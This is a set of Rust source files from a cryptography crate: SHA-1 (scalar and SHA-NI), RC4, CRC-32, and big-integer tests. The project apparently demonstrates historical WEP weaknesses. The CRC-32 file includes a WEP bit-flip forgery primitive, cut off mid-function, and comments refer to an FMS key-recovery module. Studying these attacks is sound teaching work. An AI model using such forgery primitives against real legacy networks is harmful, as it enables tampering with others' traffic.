            let got = BigUint::from_u64(b).pow_mod(&BigUint::from_u64(e), &BigUint::from_u64(m));
            assert_eq!(got, BigUint::from_u64(want as u64), "{b}^{e} mod {m}");
        }
    }

    #[test]
    fn fermat_little_theorem() {
        // p = 2^61 - 1 (Mersenne prime): a^(p-1) = 1 mod p.
        let p = BigUint::from_u64((1u64 << 61) - 1);
        let pm1 = BigUint::from_u64((1u64 << 61) - 2);
        for a in [2u64, 3, 65537, 1_234_567_891] {
            let r = BigUint::from_u64(a).pow_mod(&pm1, &p);
            assert_eq!(r, BigUint::one(), "a={a}");
        }
    }

    #[test]
    fn pow_mod_identities() {
        let m = BigUint::from_u64(97);
        let a = BigUint::from_u64(5);
        assert_eq!(a.pow_mod(&BigUint::zero(), &m), BigUint::one());
        assert_eq!(a.pow_mod(&BigUint::one(), &m), BigUint::from_u64(5));
        assert_eq!(
            BigUint::zero().pow_mod(&BigUint::from_u64(5), &m),
            BigUint::zero()
        );
        // Modulus one: everything is zero.
        assert_eq!(
            a.pow_mod(&BigUint::from_u64(3), &BigUint::one()),
            BigUint::zero()
        );
    }

    #[test]
    fn ordering() {
        let a = BigUint::from_u64(5);
        let b = BigUint::from_u64(6);
        let c = BigUint::from_be_bytes(&[1, 0, 0, 0, 0, 0, 0, 0, 0]);
        assert!(a < b);
        assert!(b > a);
        assert!(b < c);
        assert_eq!(a.cmp(&a), std::cmp::Ordering::Equal);
    }

    #[test]
    fn mul_mod_commutes_and_reduces() {
        let m = BigUint::from_be_bytes(&[0xC3; 32]);
        let a = BigUint::from_be_bytes(&[0x5A; 24]);
        let b = BigUint::from_be_bytes(&[0x77; 28]);
        let ab = a.mul_mod(&b, &m);
        let ba = b.mul_mod(&a, &m);
        assert_eq!(ab, ba);
        assert!(ab < m);
    }

    #[test]
    fn debug_renders_hex() {
        assert_eq!(
            format!("{:?}", BigUint::from_u64(0xdead_beef)),
            "0xdeadbeef"
        );
        assert_eq!(format!("{:?}", BigUint::zero()), "0x0");
    }
}
