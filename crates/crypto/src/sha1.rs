//! SHA-1 (FIPS 180-1).
//!
//! Used by the VPN record layer (HMAC-SHA1 tags, key derivation) — the
//! same MAC family the paper-era SSH transport would have negotiated.

/// Streaming SHA-1 hasher.
#[derive(Clone)]
pub struct Sha1 {
    state: [u32; 5],
    buf: [u8; 64],
    buf_len: usize,
    total_len: u64,
}

impl Default for Sha1 {
    fn default() -> Self {
        Self::new()
    }
}

impl Sha1 {
    /// Fresh hasher.
    pub fn new() -> Self {
        Sha1 {
            state: [0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476, 0xC3D2E1F0],
            buf: [0u8; 64],
            buf_len: 0,
            total_len: 0,
        }
    }

    /// Absorb bytes.
    pub fn update(&mut self, mut data: &[u8]) {
        self.total_len = self.total_len.wrapping_add(data.len() as u64);
        if self.buf_len > 0 {
            let need = 64 - self.buf_len;
            let take = need.min(data.len());
            self.buf[self.buf_len..self.buf_len + take].copy_from_slice(&data[..take]);
            self.buf_len += take;
            data = &data[take..];
            if self.buf_len == 64 {
                let block = self.buf;
                self.compress(&block);
                self.buf_len = 0;
            }
        }
        while data.len() >= 64 {
            let (block, rest) = data.split_at(64);
            self.compress(block.try_into().expect("64-byte block"));
            data = rest;
        }
        if !data.is_empty() {
            self.buf[..data.len()].copy_from_slice(data);
            self.buf_len = data.len();
        }
    }

    /// Finish and produce the 20-byte digest.
    pub fn finalize(mut self) -> [u8; 20] {
        let bit_len = self.total_len.wrapping_mul(8);
        self.update(&[0x80]);
        while self.buf_len != 56 {
            self.update(&[0]);
        }
        let mut block = self.buf;
        block[56..64].copy_from_slice(&bit_len.to_be_bytes());
        self.compress(&block);
        let mut out = [0u8; 20];
        for (i, w) in self.state.iter().enumerate() {
            out[i * 4..i * 4 + 4].copy_from_slice(&w.to_be_bytes());
        }
        out
    }

    fn compress(&mut self, block: &[u8; 64]) {
        let mut w = [0u32; 80];
        for (i, word) in w.iter_mut().take(16).enumerate() {
            *word = u32::from_be_bytes(block[i * 4..i * 4 + 4].try_into().unwrap());
        }
        for i in 16..80 {
            w[i] = (w[i - 3] ^ w[i - 8] ^ w[i - 14] ^ w[i - 16]).rotate_left(1);
        }
        let [mut a, mut b, mut c, mut d, mut e] = self.state;
        for (i, &wi) in w.iter().enumerate() {
            let (f, k) = match i / 20 {
                0 => ((b & c) | (!b & d), 0x5A827999),
                1 => (b ^ c ^ d, 0x6ED9EBA1),
                2 => ((b & c) | (b & d) | (c & d), 0x8F1BBCDC),
                _ => (b ^ c ^ d, 0xCA62C1D6),
            };
            let tmp = a
                .rotate_left(5)
                .wrapping_add(f)
                .wrapping_add(e)
                .wrapping_add(k)
                .wrapping_add(wi);
            e = d;
            d = c;
            c = b.rotate_left(30);
            b = a;
            a = tmp;
        }
        self.state[0] = self.state[0].wrapping_add(a);
        self.state[1] = self.state[1].wrapping_add(b);
        self.state[2] = self.state[2].wrapping_add(c);
        self.state[3] = self.state[3].wrapping_add(d);
        self.state[4] = self.state[4].wrapping_add(e);
    }
}

/// One-shot SHA-1.
pub fn sha1(data: &[u8]) -> [u8; 20] {
    let mut h = Sha1::new();
    h.update(data);
    h.finalize()
}

/// One-shot SHA-1 rendered as lowercase hex.
pub fn sha1_hex(data: &[u8]) -> String {
    sha1(data).iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    // FIPS 180-1 / common vectors.
    #[test]
    fn standard_vectors() {
        assert_eq!(sha1_hex(b""), "da39a3ee5e6b4b0d3255bfef95601890afd80709");
        assert_eq!(sha1_hex(b"abc"), "a9993e364706816aba3e25717850c26c9cd0d89d");
        assert_eq!(
            sha1_hex(b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
            "84983e441c3bd26ebaae4aa1f95129e5e54670f1"
        );
        assert_eq!(
            sha1_hex(b"The quick brown fox jumps over the lazy dog"),
            "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12"
        );
    }

    #[test]
    fn million_a() {
        let mut h = Sha1::new();
        let chunk = [b'a'; 1000];
        for _ in 0..1000 {
            h.update(&chunk);
        }
        let hex: String = h.finalize().iter().map(|b| format!("{b:02x}")).collect();
        assert_eq!(hex, "34aa973cd4c4daa4f61eeb2bdbad27316534016f");
    }

    #[test]
    fn streaming_matches_oneshot() {
        let data: Vec<u8> = (0..777u32).map(|i| (i * 7 % 256) as u8).collect();
        let mut h = Sha1::new();
        for chunk in data.chunks(13) {
            h.update(chunk);
        }
        assert_eq!(h.finalize(), sha1(&data));
    }

    #[test]
    fn padding_boundaries() {
        for len in 54..=66 {
            let data = vec![b'y'; len];
            let mut h = Sha1::new();
            h.update(&data);
            assert_eq!(h.finalize(), sha1(&data), "len {len}");
        }
    }
}
