//! SHA-1 (FIPS 180-1).
//!
//! Used by the VPN record layer (HMAC-SHA1 tags, key derivation) — the
//! same MAC family the paper-era SSH transport would have negotiated.

/// Streaming SHA-1 hasher.
#[derive(Clone)]
pub struct Sha1 {
    state: [u32; 5],
    buf: [u8; 64],
    buf_len: usize,
    total_len: u64,
    #[cfg_attr(not(target_arch = "x86_64"), allow(dead_code))]
    use_shani: bool,
}

/// Runtime check for the x86 SHA extensions (plus the SSSE3/SSE4.1 ops
/// the SHA-NI compression path uses for byte shuffles and extraction).
#[cfg(target_arch = "x86_64")]
fn shani_available() -> bool {
    std::arch::is_x86_feature_detected!("sha")
        && std::arch::is_x86_feature_detected!("ssse3")
        && std::arch::is_x86_feature_detected!("sse4.1")
}

#[cfg(not(target_arch = "x86_64"))]
fn shani_available() -> bool {
    false
}

impl Default for Sha1 {
    fn default() -> Self {
        Self::new()
    }
}

impl Sha1 {
    /// Fresh hasher.
    pub fn new() -> Self {
        Sha1 {
            state: [0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476, 0xC3D2E1F0],
            buf: [0u8; 64],
            buf_len: 0,
            total_len: 0,
            use_shani: shani_available(),
        }
    }

    /// Force the portable compression path. Test hook for pinning the
    /// SHA-NI path bit-for-bit against the scalar one; digests are
    /// identical either way.
    #[doc(hidden)]
    pub fn disable_acceleration(&mut self) {
        self.use_shani = false;
    }

    /// Absorb bytes.
    pub fn update(&mut self, mut data: &[u8]) {
        self.total_len = self.total_len.wrapping_add(data.len() as u64);
        if self.buf_len > 0 {
            let need = 64 - self.buf_len;
            let take = need.min(data.len());
            self.buf[self.buf_len..self.buf_len + take].copy_from_slice(&data[..take]);
            self.buf_len += take;
            data = &data[take..];
            if self.buf_len == 64 {
                let block = self.buf;
                self.compress(&block);
                self.buf_len = 0;
            }
        }
        while data.len() >= 64 {
            let (block, rest) = data.split_at(64);
            self.compress(block.try_into().expect("64-byte block"));
            data = rest;
        }
        if !data.is_empty() {
            self.buf[..data.len()].copy_from_slice(data);
            self.buf_len = data.len();
        }
    }

    /// Finish and produce the 20-byte digest.
    pub fn finalize(mut self) -> [u8; 20] {
        let bit_len = self.total_len.wrapping_mul(8);
        // One-shot padding (0x80 then zeros to 56 mod 64) instead of
        // byte-at-a-time `update(&[0])` calls; compresses the same bytes.
        let mut pad = [0u8; 64];
        pad[0] = 0x80;
        let pad_len = if self.buf_len < 56 {
            56 - self.buf_len
        } else {
            120 - self.buf_len
        };
        self.update(&pad[..pad_len]);
        debug_assert_eq!(self.buf_len, 56);
        let mut block = self.buf;
        block[56..64].copy_from_slice(&bit_len.to_be_bytes());
        self.compress(&block);
        let mut out = [0u8; 20];
        for (i, w) in self.state.iter().enumerate() {
            out[i * 4..i * 4 + 4].copy_from_slice(&w.to_be_bytes());
        }
        out
    }

    fn compress(&mut self, block: &[u8; 64]) {
        #[cfg(target_arch = "x86_64")]
        if self.use_shani {
            // SAFETY: `use_shani` is only set after runtime detection of
            // the sha/ssse3/sse4.1 features.
            unsafe { compress_shani(&mut self.state, block) };
            return;
        }
        self.compress_scalar(block);
    }

    fn compress_scalar(&mut self, block: &[u8; 64]) {
        let mut w = [0u32; 80];
        for (i, word) in w.iter_mut().take(16).enumerate() {
            *word = u32::from_be_bytes(block[i * 4..i * 4 + 4].try_into().unwrap());
        }
        for i in 16..80 {
            w[i] = (w[i - 3] ^ w[i - 8] ^ w[i - 14] ^ w[i - 16]).rotate_left(1);
        }
        let [mut a, mut b, mut c, mut d, mut e] = self.state;
        for (i, &wi) in w.iter().enumerate() {
            let (f, k) = match i / 20 {
                0 => ((b & c) | (!b & d), 0x5A827999),
                1 => (b ^ c ^ d, 0x6ED9EBA1),
                2 => ((b & c) | (b & d) | (c & d), 0x8F1BBCDC),
                _ => (b ^ c ^ d, 0xCA62C1D6),
            };
            let tmp = a
                .rotate_left(5)
                .wrapping_add(f)
                .wrapping_add(e)
                .wrapping_add(k)
                .wrapping_add(wi);
            e = d;
            d = c;
            c = b.rotate_left(30);
            b = a;
            a = tmp;
        }
        self.state[0] = self.state[0].wrapping_add(a);
        self.state[1] = self.state[1].wrapping_add(b);
        self.state[2] = self.state[2].wrapping_add(c);
        self.state[3] = self.state[3].wrapping_add(d);
        self.state[4] = self.state[4].wrapping_add(e);
    }
}

/// SHA-NI compression: the 80 rounds run as twenty `sha1rnds4`
/// four-round instructions, with the message schedule kept in four XMM
/// registers and extended by `sha1msg1`/`sha1msg2`. The round constants
/// are baked into `sha1rnds4`'s immediate (0-3 selects the K for rounds
/// 0-19/20-39/40-59/60-79), so the state update is bit-identical to the
/// scalar loop.
#[cfg(target_arch = "x86_64")]
#[target_feature(enable = "sha,ssse3,sse4.1")]
unsafe fn compress_shani(state: &mut [u32; 5], block: &[u8; 64]) {
    use std::arch::x86_64::*;

    // Big-endian word loads via one byte shuffle per 16 message bytes.
    let mask = _mm_set_epi64x(0x0001020304050607u64 as i64, 0x08090a0b0c0d0e0fu64 as i64);

    let mut abcd = _mm_loadu_si128(state.as_ptr() as *const __m128i);
    abcd = _mm_shuffle_epi32(abcd, 0x1B); // lanes -> (a,b,c,d) high-to-low
    let mut e0 = _mm_set_epi32(state[4] as i32, 0, 0, 0);
    let abcd_save = abcd;
    let e_save = e0;

    let mut msg0 = _mm_shuffle_epi8(_mm_loadu_si128(block.as_ptr() as *const __m128i), mask);
    let mut msg1 = _mm_shuffle_epi8(
        _mm_loadu_si128(block.as_ptr().add(16) as *const __m128i),
        mask,
    );
    let mut msg2 = _mm_shuffle_epi8(
        _mm_loadu_si128(block.as_ptr().add(32) as *const __m128i),
        mask,
    );
    let mut msg3 = _mm_shuffle_epi8(
        _mm_loadu_si128(block.as_ptr().add(48) as *const __m128i),
        mask,
    );
    let mut e1;

    // Rounds 0-3
    e0 = _mm_add_epi32(e0, msg0);
    e1 = abcd;
    abcd = _mm_sha1rnds4_epu32(abcd, e0, 0);
    // Rounds 4-7
    e1 = _mm_sha1nexte_epu32(e1, msg1);
    e0 = abcd;
    abcd = _mm_sha1rnds4_epu32(abcd, e1, 0);
    msg0 = _mm_sha1msg1_epu32(msg0, msg1);
    // Rounds 8-11
    e0 = _mm_sha1nexte_epu32(e0, msg2);
    e1 = abcd;
    abcd = _mm_sha1rnds4_epu32(abcd, e0, 0);
    msg1 = _mm_sha1msg1_epu32(msg1, msg2);
    msg0 = _mm_xor_si128(msg0, msg2);
    // Rounds 12-15
    e1 = _mm_sha1nexte_epu32(e1, msg3);
    e0 = abcd;
    msg0 = _mm_sha1msg2_epu32(msg0, msg3);
    abcd = _mm_sha1rnds4_epu32(abcd, e1, 0);
    msg2 = _mm_sha1msg1_epu32(msg2, msg3);
    msg1 = _mm_xor_si128(msg1, msg3);
    // Rounds 16-19
    e0 = _mm_sha1nexte_epu32(e0, msg0);
    e1 = abcd;
    msg1 = _mm_sha1msg2_epu32(msg1, msg0);
    abcd = _mm_sha1rnds4_epu32(abcd, e0, 0);
    msg3 = _mm_sha1msg1_epu32(msg3, msg0);
    msg2 = _mm_xor_si128(msg2, msg0);
    // Rounds 20-23
    e1 = _mm_sha1nexte_epu32(e1, msg1);
    e0 = abcd;
    msg2 = _mm_sha1msg2_epu32(msg2, msg1);
    abcd = _mm_sha1rnds4_epu32(abcd, e1, 1);
    msg0 = _mm_sha1msg1_epu32(msg0, msg1);
    msg3 = _mm_xor_si128(msg3, msg1);
    // Rounds 24-27
    e0 = _mm_sha1nexte_epu32(e0, msg2);
    e1 = abcd;
    msg3 = _mm_sha1msg2_epu32(msg3, msg2);
    abcd = _mm_sha1rnds4_epu32(abcd, e0, 1);
    msg1 = _mm_sha1msg1_epu32(msg1, msg2);
    msg0 = _mm_xor_si128(msg0, msg2);
    // Rounds 28-31
    e1 = _mm_sha1nexte_epu32(e1, msg3);
    e0 = abcd;
    msg0 = _mm_sha1msg2_epu32(msg0, msg3);
    abcd = _mm_sha1rnds4_epu32(abcd, e1, 1);
    msg2 = _mm_sha1msg1_epu32(msg2, msg3);
    msg1 = _mm_xor_si128(msg1, msg3);
    // Rounds 32-35
    e0 = _mm_sha1nexte_epu32(e0, msg0);
    e1 = abcd;
    msg1 = _mm_sha1msg2_epu32(msg1, msg0);
    abcd = _mm_sha1rnds4_epu32(abcd, e0, 1);
    msg3 = _mm_sha1msg1_epu32(msg3, msg0);
    msg2 = _mm_xor_si128(msg2, msg0);
    // Rounds 36-39
    e1 = _mm_sha1nexte_epu32(e1, msg1);
    e0 = abcd;
    msg2 = _mm_sha1msg2_epu32(msg2, msg1);
    abcd = _mm_sha1rnds4_epu32(abcd, e1, 1);
    msg0 = _mm_sha1msg1_epu32(msg0, msg1);
    msg3 = _mm_xor_si128(msg3, msg1);
    // Rounds 40-43
    e0 = _mm_sha1nexte_epu32(e0, msg2);
    e1 = abcd;
    msg3 = _mm_sha1msg2_epu32(msg3, msg2);
    abcd = _mm_sha1rnds4_epu32(abcd, e0, 2);
    msg1 = _mm_sha1msg1_epu32(msg1, msg2);
    msg0 = _mm_xor_si128(msg0, msg2);
    // Rounds 44-47
    e1 = _mm_sha1nexte_epu32(e1, msg3);
    e0 = abcd;
    msg0 = _mm_sha1msg2_epu32(msg0, msg3);
    abcd = _mm_sha1rnds4_epu32(abcd, e1, 2);
    msg2 = _mm_sha1msg1_epu32(msg2, msg3);
    msg1 = _mm_xor_si128(msg1, msg3);
    // Rounds 48-51
    e0 = _mm_sha1nexte_epu32(e0, msg0);
    e1 = abcd;
    msg1 = _mm_sha1msg2_epu32(msg1, msg0);
    abcd = _mm_sha1rnds4_epu32(abcd, e0, 2);
    msg3 = _mm_sha1msg1_epu32(msg3, msg0);
    msg2 = _mm_xor_si128(msg2, msg0);
    // Rounds 52-55
    e1 = _mm_sha1nexte_epu32(e1, msg1);
    e0 = abcd;
    msg2 = _mm_sha1msg2_epu32(msg2, msg1);
    abcd = _mm_sha1rnds4_epu32(abcd, e1, 2);
    msg0 = _mm_sha1msg1_epu32(msg0, msg1);
    msg3 = _mm_xor_si128(msg3, msg1);
    // Rounds 56-59
    e0 = _mm_sha1nexte_epu32(e0, msg2);
    e1 = abcd;
    msg3 = _mm_sha1msg2_epu32(msg3, msg2);
    abcd = _mm_sha1rnds4_epu32(abcd, e0, 2);
    msg1 = _mm_sha1msg1_epu32(msg1, msg2);
    msg0 = _mm_xor_si128(msg0, msg2);
    // Rounds 60-63
    e1 = _mm_sha1nexte_epu32(e1, msg3);
    e0 = abcd;
    msg0 = _mm_sha1msg2_epu32(msg0, msg3);
    abcd = _mm_sha1rnds4_epu32(abcd, e1, 3);
    msg2 = _mm_sha1msg1_epu32(msg2, msg3);
    msg1 = _mm_xor_si128(msg1, msg3);
    // Rounds 64-67
    e0 = _mm_sha1nexte_epu32(e0, msg0);
    e1 = abcd;
    msg1 = _mm_sha1msg2_epu32(msg1, msg0);
    abcd = _mm_sha1rnds4_epu32(abcd, e0, 3);
    msg3 = _mm_sha1msg1_epu32(msg3, msg0);
    msg2 = _mm_xor_si128(msg2, msg0);
    // Rounds 68-71
    e1 = _mm_sha1nexte_epu32(e1, msg1);
    e0 = abcd;
    msg2 = _mm_sha1msg2_epu32(msg2, msg1);
    abcd = _mm_sha1rnds4_epu32(abcd, e1, 3);
    msg3 = _mm_xor_si128(msg3, msg1);
    // Rounds 72-75
    e0 = _mm_sha1nexte_epu32(e0, msg2);
    e1 = abcd;
    msg3 = _mm_sha1msg2_epu32(msg3, msg2);
    abcd = _mm_sha1rnds4_epu32(abcd, e0, 3);
    // Rounds 76-79
    e1 = _mm_sha1nexte_epu32(e1, msg3);
    e0 = abcd;
    abcd = _mm_sha1rnds4_epu32(abcd, e1, 3);

    // Fold back into the chaining state.
    e0 = _mm_sha1nexte_epu32(e0, e_save);
    abcd = _mm_add_epi32(abcd, abcd_save);
    abcd = _mm_shuffle_epi32(abcd, 0x1B);
    _mm_storeu_si128(state.as_mut_ptr() as *mut __m128i, abcd);
    state[4] = _mm_extract_epi32(e0, 3) as u32;
}

/// One-shot SHA-1.
pub fn sha1(data: &[u8]) -> [u8; 20] {
    let mut h = Sha1::new();
    h.update(data);
    h.finalize()
}

/// One-shot SHA-1 rendered as lowercase hex.
pub fn sha1_hex(data: &[u8]) -> String {
    sha1(data).iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    // FIPS 180-1 / common vectors.
    #[test]
    fn standard_vectors() {
        assert_eq!(sha1_hex(b""), "da39a3ee5e6b4b0d3255bfef95601890afd80709");
        assert_eq!(sha1_hex(b"abc"), "a9993e364706816aba3e25717850c26c9cd0d89d");
        assert_eq!(
            sha1_hex(b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
            "84983e441c3bd26ebaae4aa1f95129e5e54670f1"
        );
        assert_eq!(
            sha1_hex(b"The quick brown fox jumps over the lazy dog"),
            "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12"
        );
    }

    #[test]
    fn million_a() {
        let mut h = Sha1::new();
        let chunk = [b'a'; 1000];
        for _ in 0..1000 {
            h.update(&chunk);
        }
        let hex: String = h.finalize().iter().map(|b| format!("{b:02x}")).collect();
        assert_eq!(hex, "34aa973cd4c4daa4f61eeb2bdbad27316534016f");
    }

    #[test]
    fn streaming_matches_oneshot() {
        let data: Vec<u8> = (0..777u32).map(|i| (i * 7 % 256) as u8).collect();
        let mut h = Sha1::new();
        for chunk in data.chunks(13) {
            h.update(chunk);
        }
        assert_eq!(h.finalize(), sha1(&data));
    }

    #[test]
    fn padding_boundaries() {
        for len in 54..=66 {
            let data = vec![b'y'; len];
            let mut h = Sha1::new();
            h.update(&data);
            assert_eq!(h.finalize(), sha1(&data), "len {len}");
        }
    }

    /// The SHA-NI path must be bit-identical to the scalar compression at
    /// every block-boundary class. (On machines without the SHA
    /// extensions both sides take the scalar path and the test is a
    /// tautology — the FIPS vectors above pin absolute correctness of
    /// whichever path is active.)
    #[test]
    fn accelerated_matches_scalar() {
        let data: Vec<u8> = (0..4096u32)
            .map(|i| (i.wrapping_mul(2654435761) >> 24) as u8)
            .collect();
        for len in [0, 1, 55, 56, 63, 64, 65, 119, 128, 777, 1400, 4096] {
            let mut fast = Sha1::new();
            fast.update(&data[..len]);
            let mut slow = Sha1::new();
            slow.disable_acceleration();
            slow.update(&data[..len]);
            assert_eq!(fast.finalize(), slow.finalize(), "len {len}");
        }
    }
}
