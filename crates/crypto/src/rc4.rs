//! RC4 stream cipher (Rivest, 1987; public description 1994).
//!
//! WEP keys frames as `RC4(IV ∥ secret)`, which is exactly the keying
//! structure the FMS attack exploits. The key-scheduling algorithm (KSA)
//! and pseudo-random generation algorithm (PRGA) below follow the original
//! description; [`crate::fms`] re-implements KSA prefixes independently so
//! the attack genuinely "attacks" this code rather than sharing it.

/// RC4 cipher state.
#[derive(Clone)]
pub struct Rc4 {
    s: [u8; 256],
    i: u8,
    j: u8,
}

impl Rc4 {
    /// Key-schedule a new cipher. Key length 1..=256 bytes.
    pub fn new(key: &[u8]) -> Rc4 {
        assert!(
            !key.is_empty() && key.len() <= 256,
            "RC4 key must be 1..=256 bytes"
        );
        let mut s = [0u8; 256];
        for (i, v) in s.iter_mut().enumerate() {
            *v = i as u8;
        }
        let mut j: u8 = 0;
        for i in 0..256 {
            j = j.wrapping_add(s[i]).wrapping_add(key[i % key.len()]);
            s.swap(i, j as usize);
        }
        Rc4 { s, i: 0, j: 0 }
    }

    /// Produce the next keystream byte.
    pub fn next_byte(&mut self) -> u8 {
        self.i = self.i.wrapping_add(1);
        self.j = self.j.wrapping_add(self.s[self.i as usize]);
        self.s.swap(self.i as usize, self.j as usize);
        let idx = self.s[self.i as usize].wrapping_add(self.s[self.j as usize]);
        self.s[idx as usize]
    }

    /// XOR the keystream into `data` in place (encrypt == decrypt).
    ///
    /// The PRGA state is hoisted into locals for the whole slice so the
    /// per-byte loop runs on registers instead of round-tripping `i`/`j`
    /// through `self`; output is bit-identical to repeated
    /// [`next_byte`](Self::next_byte). This in-place path is what WEP
    /// seal/open use to avoid intermediate keystream vectors.
    pub fn apply_keystream(&mut self, data: &mut [u8]) {
        let mut i = self.i;
        let mut j = self.j;
        for b in data {
            i = i.wrapping_add(1);
            j = j.wrapping_add(self.s[i as usize]);
            self.s.swap(i as usize, j as usize);
            let idx = self.s[i as usize].wrapping_add(self.s[j as usize]);
            *b ^= self.s[idx as usize];
        }
        self.i = i;
        self.j = j;
    }

    /// Convenience: encrypt/decrypt into a fresh vector.
    pub fn process(key: &[u8], data: &[u8]) -> Vec<u8> {
        let mut out = data.to_vec();
        Rc4::new(key).apply_keystream(&mut out);
        out
    }

    /// Skip `n` keystream bytes (used by tests and the FMS oracle).
    /// Advances the permutation without materializing output bytes;
    /// state after `skip(n)` is identical to `n` `next_byte` calls.
    pub fn skip(&mut self, n: usize) {
        let mut i = self.i;
        let mut j = self.j;
        for _ in 0..n {
            i = i.wrapping_add(1);
            j = j.wrapping_add(self.s[i as usize]);
            self.s.swap(i as usize, j as usize);
        }
        self.i = i;
        self.j = j;
    }
}

impl std::fmt::Debug for Rc4 {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // Never print the permutation: it is key material.
        write!(f, "Rc4 {{ i: {}, j: {} }}", self.i, self.j)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(bytes: &[u8]) -> String {
        bytes.iter().map(|b| format!("{b:02x}")).collect()
    }

    // Vectors from the original 1994 sci.crypt posting / common test suites.
    #[test]
    fn vector_key_key() {
        let out = Rc4::process(b"Key", b"Plaintext");
        assert_eq!(hex(&out), "bbf316e8d940af0ad3");
    }

    #[test]
    fn vector_wiki() {
        let out = Rc4::process(b"Wiki", b"pedia");
        assert_eq!(hex(&out), "1021bf0420");
    }

    #[test]
    fn vector_secret() {
        let out = Rc4::process(b"Secret", b"Attack at dawn");
        assert_eq!(hex(&out), "45a01f645fc35b383552544b9bf5");
    }

    // RFC 6229 keystream vectors (40-bit key 0x0102030405).
    #[test]
    fn rfc6229_40bit_keystream() {
        let mut c = Rc4::new(&[0x01, 0x02, 0x03, 0x04, 0x05]);
        let ks: Vec<u8> = (0..16).map(|_| c.next_byte()).collect();
        assert_eq!(hex(&ks), "b2396305f03dc027ccc3524a0a1118a8");
    }

    #[test]
    fn roundtrip() {
        let msg = b"the quick brown fox jumps over the lazy dog";
        let enc = Rc4::process(b"SECRET", msg);
        assert_ne!(&enc[..], &msg[..]);
        let dec = Rc4::process(b"SECRET", &enc);
        assert_eq!(&dec[..], &msg[..]);
    }

    #[test]
    fn skip_matches_manual_advance() {
        let mut a = Rc4::new(b"abcdef");
        let mut b = Rc4::new(b"abcdef");
        a.skip(100);
        for _ in 0..100 {
            b.next_byte();
        }
        assert_eq!(a.next_byte(), b.next_byte());
    }

    #[test]
    #[should_panic(expected = "1..=256")]
    fn empty_key_panics() {
        Rc4::new(b"");
    }

    #[test]
    fn debug_hides_state() {
        let c = Rc4::new(b"topsecret");
        let s = format!("{c:?}");
        assert!(!s.contains("topsecret"));
        assert!(s.contains("Rc4"));
    }
}
