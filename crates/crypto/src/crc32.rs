//! CRC-32 (IEEE 802.3 polynomial, reflected), as used by WEP for its
//! "Integrity Check Value".
//!
//! CRC-32 is *linear*: `crc(a ⊕ b) = crc(a) ⊕ crc(b) ⊕ crc(0…0)`. That
//! linearity is why WEP's ICV provides no cryptographic integrity — an
//! attacker can flip plaintext bits through the RC4 stream and patch the
//! encrypted ICV to match. [`bitflip_patch`] implements exactly that
//! textbook forgery; `rogue-dot11` uses it in a test to demonstrate the
//! weakness the paper alludes to ("WEP's weaknesses have long been
//! legendary").

/// Lazily built reflected CRC-32 tables for polynomial 0xEDB88320,
/// "slicing-by-8" layout: `t[0]` is the classic byte-at-a-time table,
/// `t[k][n]` extends it by `k` zero bytes so eight input bytes fold into
/// the register with eight independent lookups per iteration. Same
/// polynomial, same init/final constants — every CRC value is
/// bit-identical to the byte-at-a-time loop, just ~5x faster on the
/// per-monitor FCS checks that dominate dense-capture runs.
fn tables() -> &'static [[u32; 256]; 8] {
    use std::sync::OnceLock;
    static TABLES: OnceLock<[[u32; 256]; 8]> = OnceLock::new();
    TABLES.get_or_init(|| {
        let mut t = [[0u32; 256]; 8];
        for (n, slot) in t[0].iter_mut().enumerate() {
            let mut c = n as u32;
            for _ in 0..8 {
                c = if c & 1 != 0 {
                    0xEDB8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                };
            }
            *slot = c;
        }
        for k in 1..8 {
            for n in 0..256 {
                let prev = t[k - 1][n];
                t[k][n] = t[0][(prev & 0xFF) as usize] ^ (prev >> 8);
            }
        }
        t
    })
}

/// CRC-32 of `data` (init 0xFFFFFFFF, final XOR 0xFFFFFFFF — the standard
/// "ethernet" CRC).
pub fn crc32(data: &[u8]) -> u32 {
    update(0xFFFF_FFFF, data) ^ 0xFFFF_FFFF
}

/// Streaming update on the *raw* (pre-final-XOR) register.
pub fn update(mut state: u32, data: &[u8]) -> u32 {
    let t = tables();
    let mut chunks = data.chunks_exact(8);
    for c in &mut chunks {
        let lo = u32::from_le_bytes([c[0], c[1], c[2], c[3]]) ^ state;
        let hi = u32::from_le_bytes([c[4], c[5], c[6], c[7]]);
        state = t[7][(lo & 0xFF) as usize]
            ^ t[6][((lo >> 8) & 0xFF) as usize]
            ^ t[5][((lo >> 16) & 0xFF) as usize]
            ^ t[4][(lo >> 24) as usize]
            ^ t[3][(hi & 0xFF) as usize]
            ^ t[2][((hi >> 8) & 0xFF) as usize]
            ^ t[1][((hi >> 16) & 0xFF) as usize]
            ^ t[0][(hi >> 24) as usize];
    }
    for &b in chunks.remainder() {
        state = t[0][((state ^ b as u32) & 0xFF) as usize] ^ (state >> 8);
    }
    state
}

/// Incremental CRC-32 hasher.
#[derive(Clone, Debug)]
pub struct Crc32 {
    state: u32,
}

impl Default for Crc32 {
    fn default() -> Self {
        Self::new()
    }
}

impl Crc32 {
    /// Fresh hasher.
    pub fn new() -> Self {
        Crc32 { state: 0xFFFF_FFFF }
    }

    /// Absorb bytes.
    pub fn write(&mut self, data: &[u8]) {
        self.state = update(self.state, data);
    }

    /// Finish, producing the CRC.
    pub fn finish(&self) -> u32 {
        self.state ^ 0xFFFF_FFFF
    }
}

/// Given a plaintext-XOR mask `delta` for a message of length `len`,
/// return the XOR mask to apply to the CRC so it remains valid:
/// `crc(p ⊕ delta) = crc(p) ⊕ patch`. This is the WEP bit-flip forgery
/// primitive: the attacker XORs `delta` into the ciphertext body and
/// `patch` into the encrypted ICV.
pub fn bitflip_patch(delta: &[u8], len: usize) -> u32 {
    assert!(delta.len() <= len);
    // crc(p ^ d) ^ crc(p) — with the affine init/final constants this works
    // out to crc0(d) where crc0 is CRC with zero init and zero final-xor
    // applied over the full-length delta (delta zero-padded to len is the
    // same as zero-padding on the right *before* the CRC'd region ends).
    let mut padded = vec![0u8; len];
    padded[..delta.len()].copy_from_slice(delta);
